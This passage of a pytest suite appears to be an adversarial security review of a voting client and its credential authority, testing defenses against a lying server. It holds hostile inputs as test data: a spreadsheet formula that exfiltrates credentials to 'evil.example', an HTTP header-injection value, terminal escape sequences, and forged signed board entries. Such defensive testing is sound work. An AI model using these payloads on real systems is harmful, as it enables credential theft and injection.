"""Adversarial review of three features: `quorum vote` (quorum/cmd_vote.py, voting/client.py) against a malicious
or broken server, the credential authority (`quorum credentials`, the public credential import of the web app) and
memory-mapped records (voting/record.py read_raw, as used by `quorum verify`, verify_raw and the pins).

Reviewed at dad6b35 (after the hardening commits 0ffc204, a90eed5 and dad6b35, which landed during this review and
fixed most of what was first found here: those attacks are now ordinary tests below).

Tests marked xfail(strict=True) are open findings: each reason says what is wrong, where, and the fix; the owner
removes the marker when fixing (the test then passes). The other tests are attacks the code resists.

Threat model of the client tests: the server holds the board key, so every lie it tells is well-formed and signed
by the board; what it cannot do is sign for the voter's credential, which never leaves the voter's machine.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import signal
import socketserver
import struct
import subprocess
import sys
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from nacl.bindings import crypto_core_ed25519_add
from nacl.signing import SigningKey
from sqlalchemy import select

import quorum.cmd_verify as cmd_verify
from quorum.cli import main
from tests.voting.conftest import pg_url  # noqa: F401  (fixture)
from tests.voting.voting_helpers import Scenario, scripted_record
from tests.web import flow
from tests.web.conftest import admin, any_db_app, api_post, app, signed_in  # noqa: F401  (fixtures)
from tests.web.live import serve
from threshold.errors import QuorumError, VerificationError
from voting import record as record_mod
from voting.ballot import ballot_hash, next_tracker, signed_body
from voting.client import ServerError, VoterClient
from voting.credentials import new_private_credential, public_credential, signing_key
from voting.election import Election
from voting.pins import check_pins
from voting.record import RecordFormatError, entry_hash, parse_board, read_raw, read_record
from voting.tally import CastBallot, counted_ballots
from voting.verifier import verify_record
from voting.voters_csv import VoterListError, parse_public_credentials
from web import elections as web_elections
from web.models import Voter

ROOT = Path(__file__).resolve().parents[2]
PARAMS = "/api/elections/club/entries?type=setup&type=key_ceremony&type=credentials&type=open"
ANN = {"chair": ["ann"], "pool": ["yes"]}
BOB = {"chair": ["bob"], "pool": []}
CY = {"chair": ["cy"], "pool": ["no"]}
STAMP = "2026-11-26T00:00:00.000000Z"


@pytest.fixture(autouse=True)
def _own_state_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`quorum vote` keeps a re-vote ledger under $XDG_STATE_HOME: never the real home's in a test."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))


# --- helpers ---------------------------------------------------------------------------------------------------
def _open(app: Flask, admin: FlaskClient) -> list[dict[str, str]]:
    """Election 'club' (flow.MANIFEST, 5 voters) open, with server-issued credentials."""
    flow.ceremony(flow.join(app, flow.create(admin)), "club")
    issued = api_post(admin, "/api/elections/club/credentials", {}).get_json()["credentials"]
    assert api_post(admin, "/api/elections/club/open", {}).status_code == 200
    return issued


def _board(app: Flask) -> Any:
    return app.extensions["quorum"].board


def _entries(app: Flask, kind: str | None = None) -> list[Any]:
    return [e for e in Election(_board(app), "club").entries() if kind is None or e.type == kind]


def _signed(key: SigningKey, seq: int, kind: str, payload: dict[str, Any], prev: str) -> dict[str, Any]:
    """A board entry the malicious board makes and signs."""
    digest = entry_hash(seq, kind, payload, prev)
    return {"seq": seq, "type": kind, "payload": payload, "prev": prev, "hash": digest,
            "sig": key.sign(bytes.fromhex(digest)).signature.hex()}


def _http(body: bytes, status: str = "200 OK", ctype: str = "application/json") -> bytes:
    return (f"HTTP/1.1 {status}\r\nContent-Type: {ctype}\r\nContent-Length: {len(body)}\r\n"
            f"Connection: close\r\n\r\n").encode() + body


Respond = Callable[[str, str], "bytes | Callable[[Any], None]"]


@contextlib.contextmanager
def fake_server(respond: Respond) -> Iterator[tuple[str, list[tuple[str, str, bytes]]]]:
    """A loopback server writing whatever `respond(method, path)` returns, down to the HTTP framing (or a
    callable that writes to the socket itself); yields its URL and the requests it got."""
    requests: list[tuple[str, str, bytes]] = []

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            words = self.rfile.readline().decode("latin-1").split()
            length = 0
            while True:
                header = self.rfile.readline()
                if header in (b"\r\n", b"\n", b""):
                    break
                if header.lower().startswith(b"content-length:"):
                    length = int(header.split(b":", 1)[1])
            requests.append((words[0], words[1], self.rfile.read(length) if length else b""))
            answer = respond(words[0], words[1])
            try:
                if callable(answer):
                    answer(self.wfile)
                else:
                    self.wfile.write(answer)
            except OSError:
                pass

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def _credential_file(tmp_path: Path, credential: str | None = None) -> str:
    path = tmp_path / "credential.txt"
    path.write_text((credential or new_private_credential()) + "\n")
    return str(path)


def _malicious_cast(app: Flask, ballot: dict[str, Any], ctx: Any) -> dict[str, Any]:
    """What a malicious board does with a ballot it should refuse: chain, sign and store it anyway (with a
    correctly chained tracking code); returns the receipt it answers."""
    digest = ballot_hash(ctx, signed_body(ballot))
    with _board(app).locked("club") as lb:
        tracker = next_tracker(bytes.fromhex(lb.election.last_tracker), digest).hex()
        entry = lb.append("cast", {"ballot": ballot, "ballot_hash": digest.hex(), "tracker": tracker, "cast_at": STAMP},
                          dedup_key=digest.hex())
        lb.election.last_tracker = tracker
    return {"seq": entry.seq, "ballot_hash": digest.hex(), "tracker": tracker, "stored": True}


def _outcome(call: Callable[[], Any]) -> Any:
    """The call's result, or the QuorumError it raised."""
    try:
        return call()
    except QuorumError as exc:
        return exc


def _slow(head: bytes, trickled: bytes, stop: threading.Event, pause: float = 0.3) -> Callable[[Any], None]:
    """An answer writing `head` at once, then `trickled` one byte per `pause` seconds until `stop`."""
    def write(wfile: Any) -> None:
        wfile.write(head)
        wfile.flush()
        for byte in trickled:
            if stop.wait(pause):
                return
            wfile.write(bytes([byte]))
            wfile.flush()
    return write


def _gives_up_in_time(url: str, stop: threading.Event, limit: float) -> tuple[bool, list[Any]]:
    """Whether VoterClient(timeout=1 s).context() returns within `limit` seconds against `url`, and its outcome."""
    outcome: list[Any] = []

    def vote() -> None:
        try:
            outcome.append(VoterClient(url, timeout=1.0).context("club"))
        except BaseException as exc:  # noqa: BLE001 - recorded for the assertion
            outcome.append(exc)

    worker = threading.Thread(target=vote, daemon=True)
    worker.start()
    worker.join(timeout=limit)
    in_time = not worker.is_alive()
    stop.set()
    worker.join(timeout=10)
    return in_time, outcome


# === 1. `quorum vote` against a malicious server ==================================================================
def test_vote_refuses_the_parameters_of_another_election(app: Flask, admin: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """The server answers the 'club' request with another election's genuine, board-signed parameters."""
    issued = _open(app, admin)
    flow.ceremony(flow.join(app, flow.create(admin, "other")), "other")
    api_post(admin, "/api/elections/other/credentials", {})
    assert api_post(admin, "/api/elections/other/open", {}).status_code == 200
    with serve(app) as url:
        client = VoterClient(url)
        honest = client._request
        monkeypatch.setattr(client, "_request", lambda m, p, b=None: honest(m, p.replace("/club/", "/other/"), b))
        with pytest.raises(VerificationError, match="not election 'club'"):
            client.context("club")
        monkeypatch.setattr(client, "_request", honest)
        assert client.cast(client.context("club"), issued[0]["credential"], ANN).status == "cast"


def test_the_private_credential_never_leaves_the_client(app: Flask, admin: FlaskClient, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Every request of a challenge and a cast (paths and bodies), and everything printed, are free of the private
    credential and of the signing key derived from it; the Benaloh reveal holds plaintexts and nonces only; the
    ledger keeps public credentials only, mode 0600."""
    issued = _open(app, admin)
    secret = issued[0]["credential"]
    sent: list[str] = []
    real = VoterClient._request

    def recording(self: VoterClient, method: str, path: str, body: Any = None) -> Any:
        sent.append(f"{method} {path} {json.dumps(body)}")
        return real(self, method, path, body)

    monkeypatch.setattr(VoterClient, "_request", recording)
    cred = _credential_file(tmp_path, secret)
    with serve(app) as url:
        assert main(["vote", url, "club", "--credential", cred, "--choose", "chair=bob", "--choose", "pool=", "--challenge"]) == 0
        assert main(["vote", url, "club", "--credential", cred, "--choose", "chair=ann", "--choose", "pool=yes", "--json"]) == 0
    out, err = capsys.readouterr()
    seed = bytes(signing_key("club", secret)).hex()
    ledger = tmp_path / "state" / "quorum" / "votes.json"
    assert any("/challenges" in s for s in sent) and any(s.startswith("POST /elections/club/ballots") for s in sent)
    for text in sent + [out, err, ledger.read_text()]:
        assert secret not in text and seed not in text
    assert ledger.stat().st_mode & 0o777 == 0o600
    spoil = _entries(app, "spoil")[0]
    assert {k for item in spoil.payload["reveal"] for k in item} == {"id", "plaintexts", "nonces"}


def test_a_wrong_counter_refused_by_an_honest_board_exits_1_with_the_reason(
        app: Flask, admin: FlaskClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """A broken /revote answer (counter 3 for a credential that never voted): refused (by the client itself since
    session 18, a gap in the counters, as the board would) and the voter is told why, with exit 1, nothing printed
    as cast."""
    issued = _open(app, admin)
    real = VoterClient._request

    def lying(self: VoterClient, method: str, path: str, body: Any = None) -> Any:
        answer = real(self, method, path, body)
        return {**answer, "revote": 3} if "/revote/" in path else answer

    monkeypatch.setattr(VoterClient, "_request", lying)
    with serve(app) as url:
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, issued[0]["credential"]),
                     "--choose", "chair=ann", "--choose", "pool=yes"])
    out, err = capsys.readouterr()
    assert code == 1 and out == "" and "a gap makes the record fail its re-vote check" in err
    assert not _entries(app, "cast")


def _stale_counter(app: Flask, credential: str, hide: bool = False) -> Callable[..., Any]:
    """A class-level _request of a malicious server: /revote answers 0, and a cast ballot is stored whatever its
    counter (chained and signed like any other); with `hide`, the board shown before casting (?from= without ?to=)
    ends at the open entry, so the voter's earlier ballots are not seen until the chain up to the new one is."""
    real = VoterClient._request

    def stale(self: VoterClient, method: str, path: str, body: Any = None) -> Any:
        if "/revote/" in path:
            return {"credential": credential, "revote": 0}
        if hide and "from=" in path and "to=" not in path:
            return {"entries": []}
        if method == "POST" and path.endswith("/ballots"):
            return _malicious_cast(app, body["ballot"], Election(_board(app), "club").context())
        return real(self, method, path, body)

    return stale


def test_the_ledger_refuses_a_stale_counter_after_this_clients_own_ballots(
        app: Flask, admin: FlaskClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Cast twice with `quorum vote` (counters 0 and 1); the server then answers the stale counter 0: refused, exit 1,
    and nothing new on the board."""
    issued = _open(app, admin)
    cred = _credential_file(tmp_path, issued[0]["credential"])
    with serve(app) as url:
        for choice in ("chair=ann", "chair=bob"):
            assert main(["vote", url, "club", "--credential", cred, "--choose", choice, "--choose", "pool="]) == 0
        monkeypatch.setattr(VoterClient, "_request", _stale_counter(app, public_credential("club", issued[0]["credential"]),
                                                                    hide=True))  # only the ledger knows, before casting
        code = main(["vote", url, "club", "--credential", cred, "--choose", "chair=cy", "--choose", "pool="])
    err = capsys.readouterr().err
    assert code == 1 and "would not count" in err
    assert [e.payload["ballot"]["revote"] for e in _entries(app, "cast")] == [0, 1]


def test_a_stale_counter_after_ballots_cast_elsewhere_is_refused(
        app: Flask, admin: FlaskClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Fixed finding (was a strict xfail): the voter cast twice elsewhere (counters 0 and 1; no ledger here knows),
    the server answers counter 0 and hides those ballots until the new one is stored. The client follows the chain
    from the open entry to the ballot's entry after casting, finds ballot number 1 of its credential there: exit 1,
    "would not count"."""
    issued = _open(app, admin)
    secret = issued[0]["credential"]
    credential = public_credential("club", secret)
    with serve(app) as url:
        elsewhere = VoterClient(url)  # e.g. the booth on another computer: no ledger here knows of these ballots
        ctx = elsewhere.context("club")
        elsewhere.cast(ctx, secret, ANN)
        elsewhere.cast(ctx, secret, BOB)
        monkeypatch.setattr(VoterClient, "_request", _stale_counter(app, credential, hide=True))
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, secret), "--choose", "chair=cy",
                     "--choose", "pool=no", "--json"])
    casts = _entries(app, "cast")
    assert [e.payload["ballot"]["revote"] for e in casts] == [0, 1, 0]  # the newest ballot carries counter 0
    counted = counted_ballots([CastBallot(e.seq, credential, e.payload["ballot_hash"], (), e.payload["ballot"]["revote"])
                               for e in casts])
    assert [b.seq for b in counted] == [casts[1].seq]  # the voter's last ballot is not the one counted
    out, err = capsys.readouterr()
    assert code == 1 and out == "" and "would not count" in err, out + err
    with serve(app) as url:  # the ledger learnt counter 1: the next run refuses before storing anything
        again = main(["vote", url, "club", "--credential", _credential_file(tmp_path, secret), "--choose", "chair=cy",
                      "--choose", "pool=no"])
    assert again == 1 and "already saw its ballot number 1" in capsys.readouterr().err
    assert len(_entries(app, "cast")) == 3


def test_a_stale_counter_the_board_shows_is_refused_before_casting(
        app: Flask, admin: FlaskClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """The same stale /revote answer, the board shown as it is: refused before casting, nothing new stored."""
    issued = _open(app, admin)
    secret = issued[0]["credential"]
    with serve(app) as url:
        elsewhere = VoterClient(url)
        ctx = elsewhere.context("club")
        elsewhere.cast(ctx, secret, ANN)
        elsewhere.cast(ctx, secret, BOB)
        monkeypatch.setattr(VoterClient, "_request", _stale_counter(app, public_credential("club", secret)))
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, secret), "--choose", "chair=cy",
                     "--choose", "pool=no"])
    err = capsys.readouterr().err
    assert code == 1 and "would not count" in err
    assert [e.payload["ballot"]["revote"] for e in _entries(app, "cast")] == [0, 1]


def test_ballots_cast_elsewhere_give_the_next_counter(app: Flask, admin: FlaskClient, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    """The honest path: two ballots cast elsewhere, other voters' ballots between, then `quorum vote` with a fresh
    ledger casts ballot number 2, which is the one counted."""
    issued = _open(app, admin)
    secret = issued[0]["credential"]
    credential = public_credential("club", secret)
    with serve(app) as url:
        elsewhere = VoterClient(url)
        ctx = elsewhere.context("club")
        elsewhere.cast(ctx, secret, ANN)
        elsewhere.cast(ctx, issued[1]["credential"], ANN)
        elsewhere.cast(ctx, secret, BOB)
        elsewhere.challenge(ctx, issued[2]["credential"], CY)
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, secret), "--choose", "chair=cy",
                     "--choose", "pool=no", "--json"])
    receipt = json.loads(capsys.readouterr().out)
    assert code == 0 and receipt["revote"] == 2
    mine = [e for e in _entries(app, "cast") if e.payload["ballot"]["credential"] == credential]
    counted = counted_ballots([CastBallot(e.seq, credential, e.payload["ballot_hash"], (), e.payload["ballot"]["revote"])
                               for e in mine])
    assert [b.seq for b in counted] == [receipt["seq"]]


def test_ballot_entries_off_the_chain_or_with_unchained_codes_are_refused(app: Flask, admin: FlaskClient,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Three lies about where the ballot is, each board-signed: an entry at seq 0 after GENESIS (the ballot dropped),
    the real entry re-signed under a made-up tracking code, and the real entry with a forged entry before it whose
    hash is not its prev."""
    issued = _open(app, admin)
    key = _board(app).key
    with serve(app) as url:
        client = VoterClient(url)
        ctx = client.context("club")
        honest = client._request

        def dropped(method: str, path: str, body: Any = None) -> Any:
            if method == "POST" and path.endswith("/ballots"):
                digest = ballot_hash(ctx, signed_body(body["ballot"]))
                tracker = next_tracker(ctx.base_hash, digest).hex()
                dropped.entry = _signed(key, 0, "cast", {"ballot": body["ballot"], "ballot_hash": digest.hex(),  # type: ignore[attr-defined]
                                                         "tracker": tracker, "cast_at": STAMP}, "0" * 64)
                return {"seq": 0, "ballot_hash": digest.hex(), "tracker": tracker, "stored": True}
            if "/ballots/" in path:
                return {"entry": dropped.entry}  # type: ignore[attr-defined]
            return honest(method, path, body)

        made_up, real_receipt = "ab" * 32, {}

        def renamed(method: str, path: str, body: Any = None) -> Any:
            if method == "POST" and path.endswith("/ballots"):
                real_receipt.update(honest(method, path, body))
                return {**real_receipt, "tracker": made_up}
            if path.endswith(f"/ballots/{made_up}"):
                entry = honest("GET", f"/elections/club/ballots/{real_receipt['tracker']}")["entry"]
                return {"entry": _signed(key, entry["seq"], "cast", {**entry["payload"], "tracker": made_up}, entry["prev"])}
            return honest(method, path, body)

        def unlinked(method: str, path: str, body: Any = None) -> Any:
            answer = honest(method, path, body)
            if "from=" in path and answer["entries"]:  # the board before casting: its newest entry re-signed altered
                *rest, e = answer["entries"]
                return {"entries": [*rest, _signed(key, e["seq"], e["type"], {**e["payload"], "timestamp": STAMP}, e["prev"])]}
            return answer

        for i, lie in enumerate((dropped, renamed, unlinked)):
            monkeypatch.setattr(client, "_request", lie)
            assert isinstance(_outcome(lambda: client.cast(ctx, issued[i]["credential"], ANN)), VerificationError), lie.__name__
    assert len(_entries(app, "cast")) == 2 and real_receipt["tracker"] != made_up


def test_the_receipt_keeps_the_board_signature_that_proves_a_fork(app: Flask, admin: FlaskClient, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    issued = _open(app, admin)
    key = _board(app).key
    opened = _entries(app, "open")[0]
    real = VoterClient._request
    forged: dict[str, Any] = {}
    hide = True

    def forking(self: VoterClient, method: str, path: str, body: Any = None) -> Any:
        if method == "POST" and path.endswith("/ballots"):  # never stored on the published chain
            digest = ballot_hash(self_ctx[0], signed_body(body["ballot"]))
            tracker = next_tracker(self_ctx[0].base_hash, digest).hex()
            forged.update(_signed(key, opened.seq + 1, "cast", {"ballot": body["ballot"], "ballot_hash": digest.hex(),
                                                                "tracker": tracker, "cast_at": STAMP}, opened.hash))
            return {"seq": opened.seq + 1, "ballot_hash": digest.hex(), "tracker": tracker, "stored": True}
        if forged and "/ballots/" in path:
            return {"entry": forged}
        if hide and "from=" in path and "from=0&" not in path:  # the board before casting shown to end at the open entry
            return {"entries": []}
        return real(self, method, path, body)

    with serve(app) as url:
        first = VoterClient(url)
        self_ctx = [first.context("club")]
        first.cast(self_ctx[0], issued[1]["credential"], BOB)  # the published entry right after the open entry
        monkeypatch.setattr(VoterClient, "_request", forking)
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, issued[0]["credential"]),
                     "--choose", "chair=ann", "--choose", "pool=yes", "--json"])
        out = capsys.readouterr().out
        published = {e.seq: e for e in _entries(app)}
        assert code == 0 and published[opened.seq + 1].hash != forged["hash"]  # the voter was shown a fork
        assert forged["sig"] in out, "the receipt holds no board signature to prove it"
        forged.clear()
        hide = False  # the board shown before casting holds the published entry: the fork is refused, with its evidence
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, issued[2]["credential"]),
                     "--choose", "chair=ann", "--choose", "pool=yes"])
    err = capsys.readouterr().err
    assert code == 1 and "a fork" in err and forged["sig"] in err


def test_a_forged_second_open_entry_before_the_ballot_is_refused(app: Flask, admin: FlaskClient, monkeypatch: pytest.MonkeyPatch) -> None:
    issued = _open(app, admin)
    key = _board(app).key
    opened = _entries(app, "open")[0]
    with serve(app) as url:
        client = VoterClient(url)
        ctx = client.context("club")
        client.cast(ctx, issued[1]["credential"], BOB)
        client.cast(ctx, issued[2]["credential"], CY)
        honest = client._request
        forged: dict[str, Any] = {}

        def dropping(method: str, path: str, body: Any = None) -> Any:
            if method == "POST" and path.endswith("/ballots"):
                digest = ballot_hash(ctx, signed_body(body["ballot"]))
                tracker = next_tracker(ctx.base_hash, digest).hex()
                head = _entries(app)[-1]
                forged["before"] = _signed(key, head.seq + 1, "open", dict(opened.payload), head.hash)
                forged["entry"] = _signed(key, head.seq + 2, "cast", {"ballot": body["ballot"], "ballot_hash": digest.hex(),
                                                                      "tracker": tracker, "cast_at": STAMP}, forged["before"]["hash"])
                return {"seq": head.seq + 2, "ballot_hash": digest.hex(), "tracker": tracker, "stored": True}
            if forged and "/ballots/" in path:
                return {"entry": forged["entry"]}
            if forged and "from=" in path:
                return {"entries": [forged["before"]]}
            return honest(method, path, body)

        monkeypatch.setattr(client, "_request", dropping)
        outcome = _outcome(lambda: client.cast(ctx, issued[0]["credential"], ANN))
    assert len(_entries(app, "cast")) == 2  # the ballot was dropped
    assert isinstance(outcome, VerificationError), outcome


BROKEN_ANSWERS = {
    "a JSON list instead of an object": (_http(b"[]"), "expected a JSON object"),
    "JSON nested 100000 deep": (_http(b"[" * 100000 + b"]" * 100000), "not JSON"),
    "an error whose problem body is a JSON list": (_http(b"[1]", "500 Internal Server Error"), "500"),
    "a body cut short of its Content-Length": (b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n{\"entries\"", "GET"),
    "not HTTP at all": (b"SSH-2.0-OpenSSH_9.6\r\n\r\n", "GET"),
    "more than 100 header lines": (b"HTTP/1.1 200 OK\r\n" + b"X-A: 1\r\n" * 200 + b"Content-Length: 2\r\n\r\n{}", "GET"),
    "HTML instead of JSON": (_http(b"<html>hi</html>", ctype="text/html"), "not JSON"),
    "bytes that are not UTF-8": (_http(b'{"entries": "\xff"}'), "not JSON"),
    "entries that are not a list": (_http(b'{"entries": "x"}'), "expected a list"),
    "an entry with keys missing": (_http(json.dumps({"entries": [{"payload": {"board_key": "ab" * 32}}]}).encode()), "malformed"),
    "an entry with a float": (_http(json.dumps({"entries": [{"payload": {"board_key": "ab" * 32}, "seq": 0.5}]}).encode()), "malformed"),
    "a 404 problem": (_http(b'{"title": "Not Found", "detail": "no election"}', "404 Not Found"), "404 no election"),
    "a 500 without a body": (_http(b"", "500 Internal Server Error"), "500"),
}


@pytest.mark.parametrize("answer,message", list(BROKEN_ANSWERS.values()), ids=list(BROKEN_ANSWERS))
def test_a_broken_answer_is_a_clear_error(answer: bytes, message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with fake_server(lambda m, p: answer) as (url, _):
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path), "--choose", "chair=ann"])
    err = capsys.readouterr().err
    assert code == 1 and err.startswith("quorum vote: ") and message in err and err.count("\n") == 1


@pytest.mark.parametrize("csrf", [b"[]", b"{}", b'{"csrf_token": {"a": 1}}', b'{"csrf_token": "a\\r\\nX-Injected: 1"}'])
def test_a_wrong_csrf_answer_is_a_clear_error(csrf: bytes, app: Flask, admin: FlaskClient, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    issued = _open(app, admin)
    entries = admin.get(PARAMS).data

    def respond(method: str, path: str) -> bytes:
        if path.startswith("/api/elections/club/entries"):
            return _http(b'{"entries": []}' if "from=" in path and "from=0&" not in path else entries)
        return _http(b'{"revote": 0}' if "/revote/" in path else csrf)

    with fake_server(respond) as (url, requests):
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path, issued[0]["credential"]),
                     "--choose", "chair=ann", "--choose", "pool="])
    assert code == 1 and "csrf" in capsys.readouterr().err
    assert not [r for r in requests if r[0] == "POST"]


def test_a_trickled_body_or_a_huge_answer_is_cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """A body trickled byte by byte (each read within the 1 s timeout) ends within about twice the timeout; an
    answer beyond MAX_ANSWER_BYTES (lowered here) is refused."""
    stop = threading.Event()
    body = b'{"entries": []}' + b" " * 100
    head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode()
    with fake_server(lambda m, p: _slow(head, body, stop)) as (url, _):
        in_time, outcome = _gives_up_in_time(url, stop, 4)
    assert in_time and isinstance(outcome[0], ServerError) and "took more than" in str(outcome[0])
    monkeypatch.setattr("voting.client.MAX_ANSWER_BYTES", 1 << 20)
    with fake_server(lambda m, p: _http(b'{"entries": "' + b"a" * (2 << 20) + b'"}')) as (url, _):
        with pytest.raises(ServerError, match="exceeds"):
            VoterClient(url).context("club")


def test_trickled_headers_cannot_hang_the_client() -> None:
    stop = threading.Event()
    with fake_server(lambda m, p: _slow(b"HTTP/1.1 200 OK\r\nX-Slow: ", b"a" * 1000, stop)) as (url, _):
        in_time, _ = _gives_up_in_time(url, stop, 5)
    assert in_time, "still reading the headers after 5 s with a 1 s timeout"


def test_server_text_cannot_forge_the_terminal_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    detail = "\n\x1b[1A\x1b[2Kcast: tracking code " + "ab" * 32 + " (board entry 9)\u202e"
    answer = _http(json.dumps({"title": "Conflict", "detail": detail}).encode(), "409 Conflict")
    with fake_server(lambda m, p: answer) as (url, _):
        code = main(["vote", url, "club", "--credential", _credential_file(tmp_path), "--choose", "chair=ann"])
    err = capsys.readouterr().err
    assert code == 1 and "\x1b" not in err and "\u202e" not in err and err.count("\n") == 1


def test_credential_and_argument_errors_exit_2_before_any_request(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A malformed, missing, unreadable or binary credential file, or a contest given twice: exit 2, no request, the
    file's content never echoed."""
    (tmp_path / "latin1.txt").write_bytes(b"caf\xe9")
    (tmp_path / "wrong.txt").write_text("this is not a credential\n")
    (tmp_path / "csv.txt").write_text("voter_id,email,credential\nv1,v1@example.org," + new_private_credential() + "\n")
    with fake_server(lambda m, p: _http(b"{}")) as (url, requests):
        for credential in ("wrong.txt", "csv.txt", "missing.txt", ".", "latin1.txt", "/dev/zero"):
            path = credential if credential.startswith("/") else str(tmp_path / credential)
            assert main(["vote", url, "club", "--credential", path, "--choose", "chair=ann"]) == 2, credential
        assert main(["vote", url, "club", "--credential", _credential_file(tmp_path), "--choose", "chair=a",
                     "--choose", "chair=b"]) == 2
    err = capsys.readouterr().err
    assert not requests and err.count("quorum vote: ") == 7 and "Traceback" not in err
    assert "this is not a credential" not in err and "v1@example.org" not in err


# === 2. The credential authority ===================================================================================
def _authority(tmp_path: Path, voters_csv: str, election_id: str = "club", out: str = "ca") -> tuple[int, Path]:
    (tmp_path / "voters.csv").write_text(voters_csv)
    code = main(["credentials", election_id, "--voters", str(tmp_path / "voters.csv"), "--out", str(tmp_path / out)])
    return code, tmp_path / out


@pytest.mark.parametrize("row", ["=IMAGE(B2&C2),https://evil.example/?@x.io", "+1+1,a@b.io", "-2+3,a@b.io",
                                 "@SUM(1),a@b.io", "v1,=IMAGE(C2)@x.io", "v1,+x@b.io", "v1,-x@b.io"])
def test_a_spreadsheet_formula_cannot_reach_the_credential_files(row: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A voter id or e-mail a spreadsheet would run as a formula (exfiltrating the private credential beside it):
    the voter list is refused by row, nothing written."""
    code, out = _authority(tmp_path, f"voter_id,email\n{row}\nv2,v2@example.org\n")
    assert code == 2 and "row 2" in capsys.readouterr().err and not (out / "private-credentials.csv").exists()


def test_a_planted_symlink_is_not_followed(tmp_path: Path) -> None:
    for planted in ("public-credentials.csv", "private-credentials.csv"):
        out, victim = tmp_path / f"ca-{planted}", tmp_path / f"victim-{planted}"
        out.mkdir()
        (out / planted).symlink_to(victim)
        code, _ = _authority(tmp_path, flow.VOTERS, out=out.name)
        assert code == 2 and not victim.exists() and (out / planted).is_symlink()
        assert [p.name for p in out.iterdir()] == [planted]  # nothing else left behind


@pytest.mark.parametrize("planted", ["private-credentials.csv", "public-credentials.csv"])
def test_errors_writing_the_files_exit_2_and_leave_no_private_file(planted: str, tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "ca"
    out.mkdir()
    (out / planted).symlink_to(tmp_path / "no-such-folder" / "x.csv")
    code, _ = _authority(tmp_path, flow.VOTERS)
    assert code == 2 and not (out / "private-credentials.csv").is_file()
    assert "Traceback" not in capsys.readouterr().err


def test_a_failed_write_leaves_no_partial_private_file(tmp_path: Path) -> None:
    (tmp_path / "voters.csv").write_text(flow.VOTERS)
    script = (
        "import resource, signal, sys\n"
        "from quorum.cli import main\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (120, 120))  # the disk fills up during the write\n"
        "print('exit', main(['credentials', 'club', '--voters', sys.argv[1], '--out', sys.argv[2]]))\n"
    )
    code, out = _run_bounded(script, str(tmp_path / "voters.csv"), str(tmp_path / "ca"))
    assert code == 0 and "exit 2" in out, out
    leftover = tmp_path / "ca" / "private-credentials.csv"
    assert not leftover.exists(), f"{leftover.stat().st_size} bytes left: {leftover.read_text()[:60]!r}..."


@pytest.mark.parametrize("election_id", ["club/2026", "club ", "", "_club", "a" * 65, "clüb"])
def test_credentials_refuses_an_impossible_election_id(election_id: str, tmp_path: Path) -> None:
    code, out = _authority(tmp_path, flow.VOTERS, election_id=election_id)
    assert code == 2 and not out.exists()


def test_the_private_file_is_0600_from_creation_and_never_overwritten(tmp_path: Path) -> None:
    """Under a permissive umask the private file is still 0600; a rerun refuses (exit 2) and keeps both files; each
    public credential is its private one's, for the election named."""
    old = os.umask(0)
    try:
        code, out = _authority(tmp_path, flow.VOTERS)
    finally:
        os.umask(old)
    assert code == 0 and (out / "private-credentials.csv").stat().st_mode & 0o777 == 0o600
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert _authority(tmp_path, flow.VOTERS)[0] == 2
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    rows = list(csv.DictReader(io.StringIO(before["private-credentials.csv"].decode())))
    public = dict(csv.reader(io.StringIO(before["public-credentials.csv"].decode())))
    assert all(public[r["voter_id"]] == public_credential("club", r["credential"]) for r in rows)
    assert len({r["credential"] for r in rows}) == len(rows) == 5


def _valid_key() -> str:
    return bytes(SigningKey.generate().verify_key).hex()


ORDER_8 = "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a"
BAD_CREDENTIALS = {
    "identity": "01" + "00" * 31,
